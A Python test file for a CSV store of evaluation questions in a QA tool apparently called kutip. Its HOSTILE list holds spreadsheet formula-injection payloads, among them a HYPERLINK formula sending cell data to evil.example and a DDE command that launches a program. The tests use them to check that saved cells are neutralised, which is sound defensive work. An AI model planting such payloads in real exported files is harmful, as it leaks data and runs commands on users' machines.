"""Promises of the user's own questions: kept as they are, lost by nothing, read by kutip eval."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pytest
from filelock import FileLock
from hypothesis import given
from hypothesis import strategies as st

from qa.cli import main
from qa.corpus import Corpus
from qa.errors import DatasetError
from qa.evaluation import saved as module
from qa.evaluation.datasets import from_cell, read_questions, to_cell
from qa.evaluation.gold import of_rows
from qa.evaluation.saved import LONGEST, Kept, Saved, SavedQuestions, shortened
from tests.helpers import SHIP, python, write_articles

KAPAL = Saved("Berapa kapal ditambah?", "dua kapal perintis", "kapal.txt", True, "", "2026-11-22")
NOWHERE = Saved("Siapa menang?", answerable=False, day="2026-11-22")
OPEN = Saved("Mengapa?", answerable=None, wrong="Karena hujan.", day="2026-11-22")

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1;"klik")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1;1)",
    "＝1＋1",
    "'=1",
    "' =1",
    "\t=1",
    'baris satu\nbaris "dua"; tiga, empat\r\nlima',
    "<script>alert(1)</script> | a | b",
    "aman \u202eterbalik\u202c\u2066",
    "kapal \x00 nol",
    ";;;,,,",
]


def test_what_is_saved_is_read_back(tmp_path: Path) -> None:
    """A right passage, no answer, and nothing known yet, in the order they were saved."""
    questions = SavedQuestions(tmp_path)
    assert questions.all() == []
    assert [questions.add(one) for one in (KAPAL, NOWHERE, OPEN)] == [Kept.ADDED] * 3
    assert questions.all() == [KAPAL, NOWHERE, OPEN]


def test_the_evaluation_reads_the_file_as_it_is(
    tmp_path: Path, open_corpus: Callable[..., Corpus]
) -> None:
    """The place of a right passage is found; a question nobody has judged is named by its line."""
    corpus = open_corpus()
    corpus.add(write_articles(tmp_path / "articles"))
    questions = SavedQuestions(corpus.path)
    for one in (KAPAL, OPEN, NOWHERE):
        questions.add(one)
    gold = of_rows(questions.path, read_questions(questions.path), corpus)
    assert [(item.text, item.answerable) for item in gold.items] == [
        (KAPAL.question, True),
        (NOWHERE.question, False),
    ]
    ((document_id, (span,)),) = gold.items[0].places.items()
    assert span.of(corpus.document(document_id).text) == "dua kapal perintis"
    (problem,) = gold.problems
    assert problem.startswith(f"{questions.path}:3: what is right has not been said")


def test_calibrating_takes_the_file_as_it_is(
    sample_copy: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """``kutip eval --calibrate`` reads it, says which line was left out, and wants more of it."""
    questions = SavedQuestions(sample_copy)
    text = "aturan tentang perlindungan data pribadi warganya"
    questions.add(Saved("Aturan apa yang diminta Jokowi masuk kerangka siber ASEAN?", text))
    questions.add(OPEN)
    status = main(["eval", str(questions.path), "--corpus", str(sample_copy), "--calibrate"])
    assert status == 2
    assert "finds the answer to 1 of the questions" in capsys.readouterr().err


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_is_kept_as_data(tmp_path: Path, text: str) -> None:
    """No cell starts with what a spreadsheet would compute, and reading gives the same text."""
    questions = SavedQuestions(tmp_path)
    questions.add(Saved(text, text, text, True, text))
    questions.add(KAPAL)
    raw = questions.path.read_text("utf-8-sig")
    for cells in csv.reader(io.StringIO(raw, newline="")):
        assert not any(cell.lstrip().startswith(tuple("=+-@＝＋－＠")) for cell in cells)
    first, second = questions.all()
    line = " ".join(text.split())
    assert (first.question, first.text, first.wrong) == (line, text.strip(), text.strip())
    assert second == KAPAL
    row = read_questions(questions.path)[0]
    assert (row.question, row.expected.texts) == (line, (text.strip(),))


@given(st.text())
def test_a_cell_gives_back_its_text(text: str) -> None:
    """Whatever is written, ``from_cell`` undoes ``to_cell``, and no cell is a formula."""
    assert from_cell(to_cell(text)) == text
    assert not to_cell(text).lstrip().startswith(tuple("=+-@＝＋－＠"))


def test_characters_that_no_file_can_hold_are_replaced(tmp_path: Path) -> None:
    """Half of a character, as a program may send it, does not spoil the file."""
    questions = SavedQuestions(tmp_path)
    questions.add(Saved("Apa \ud83d ini?", answerable=False))
    assert [one.question for one in questions.all()] == ["Apa ? ini?"]


def test_the_same_is_saved_once(tmp_path: Path) -> None:
    """The same question with the same answer changes nothing, however it is written."""
    questions = SavedQuestions(tmp_path)
    questions.add(KAPAL)
    before = questions.path.read_bytes()
    again = Saved("berapa  KAPAL ditambah?", "Dua kapal perintis", day="2027-01-01")
    assert questions.add(again) is Kept.KNOWN
    assert questions.add(Saved(KAPAL.question, answerable=None, wrong="x")) is Kept.KNOWN
    assert questions.path.read_bytes() == before


def test_another_answer_is_kept_beside_the_first(tmp_path: Path) -> None:
    """Nothing that was saved is overwritten by what is said later."""
    questions = SavedQuestions(tmp_path)
    questions.add(KAPAL)
    assert questions.add(Saved(KAPAL.question, answerable=False)) is Kept.DIFFERS
    assert [one.answerable for one in questions.all()] == [True, False]


def test_a_question_that_waited_gets_its_passage(tmp_path: Path) -> None:
    """What was noted as wrong stays beside the right passage, in the same row."""
    questions = SavedQuestions(tmp_path)
    questions.add(OPEN)
    questions.add(KAPAL)
    right = Saved(OPEN.question, "dua kapal", day="2026-12-01")
    assert questions.add(right) is Kept.COMPLETED
    first, second = questions.all()
    assert (first.text, first.answerable, first.wrong) == ("dua kapal", True, "Karena hujan.")
    assert second == KAPAL


def test_what_a_spreadsheet_made_of_it_stays(tmp_path: Path) -> None:
    """Semicolons, another order, Indonesian names, columns of one's own: every cell is kept."""
    questions = SavedQuestions(tmp_path)
    questions.path.write_bytes(
        "catatan;teks;pertanyaan\r\npenting;dua kapal;Bérapa?\r\n;;\r\n".encode("cp1252")
    )
    questions.add(NOWHERE)
    rows = list(csv.reader(io.StringIO(questions.path.read_text("utf-8-sig"), newline="")))
    assert rows == [
        ["catatan", "teks", "pertanyaan", "expected source", "answerable", "wrong answer", "saved"],
        ["penting", "dua kapal", "Bérapa?"],
        ["", "", "Siapa menang?", "", "no", "", "2026-11-22"],
    ]
    assert [row.question for row in read_questions(questions.path)] == ["Bérapa?", "Siapa menang?"]


@pytest.mark.parametrize("data", [b"", b"nothing,to,see\n", b'question\n"open\n', b"\xff\xfe\x00"])
def test_a_file_that_is_no_table_is_left_alone(tmp_path: Path, data: bytes) -> None:
    """Saving says so, and the file is as it was; deleting all is the way out."""
    questions = SavedQuestions(tmp_path)
    questions.path.write_bytes(data)
    for change in (lambda: questions.add(KAPAL), lambda: questions.remove("x"), questions.all):
        with pytest.raises(DatasetError, match=r"questions\.csv"):
            change()
    assert questions.path.read_bytes() == data
    questions.clear()
    assert questions.add(KAPAL) is Kept.ADDED


def test_a_failed_write_loses_nothing(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The file is replaced as a whole or not at all."""
    questions = SavedQuestions(tmp_path)
    questions.add(KAPAL)
    before = questions.path.read_bytes()

    def full(descriptor: int) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr("os.fsync", full)
    with pytest.raises(DatasetError, match="No space left on device"):
        questions.add(NOWHERE)
    assert questions.path.read_bytes() == before


def test_many_save_at_once(tmp_path: Path) -> None:
    """No thread undoes what another has saved."""
    new = [Saved(f"Pertanyaan {i}?", answerable=False) for i in range(24)]
    with ThreadPoolExecutor(8) as pool:
        list(pool.map(lambda one: SavedQuestions(tmp_path).add(one), new))
    assert {one.question for one in SavedQuestions(tmp_path).all()} == {n.question for n in new}


def test_processes_wait_for_each_other(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """While another process holds the file nothing is written, and it is said; then it is."""
    monkeypatch.setattr(module, "PATIENCE", 0.1)
    questions = SavedQuestions(tmp_path)
    with FileLock(f"{questions.path}.lock"):
        code = (
            "import sys, qa.evaluation.saved as s; from pathlib import Path; s.PATIENCE = 0.1\n"
            "try: s.SavedQuestions(Path(sys.argv[1])).add(s.Saved('Apa?', answerable=False))\n"
            "except s.DatasetError as error: print(error)"
        )
        assert "somebody else is writing" in python("-c", code, tmp_path).stdout
    assert not questions.path.exists()
    assert questions.add(KAPAL) is Kept.ADDED


def test_one_is_removed_and_the_rest_stay(tmp_path: Path) -> None:
    """By its key, which another question does not have; once gone it cannot go again."""
    questions = SavedQuestions(tmp_path)
    for one in (KAPAL, NOWHERE, OPEN):
        questions.add(one)
    assert questions.remove(NOWHERE.key) == NOWHERE
    assert questions.remove(NOWHERE.key) is None
    assert questions.all() == [KAPAL, OPEN]


def test_a_row_that_somebody_spoilt_does_not_hide_the_others(tmp_path: Path) -> None:
    """It is listed as not judged; kutip eval names its line."""
    questions = SavedQuestions(tmp_path)
    questions.path.write_text("question,answerable\nApa?,barangkali\nSiapa?,no\nKapan?,yes\n")
    assert [one.answerable for one in questions.all()] == [None, False, None]
    with pytest.raises(DatasetError, match=r"questions\.csv:2: 'barangkali'"):
        read_questions(questions.path)


def test_a_long_passage_is_kept_in_part(tmp_path: Path) -> None:
    """Its start, in whole words, finds it again; a cell of any length would not be read."""
    long = f"{SHIP} " * 2_000
    kept = shortened(long)
    assert len(kept) <= LONGEST
    assert long.startswith(kept + " ")
    assert shortened(f" {SHIP} ") == SHIP
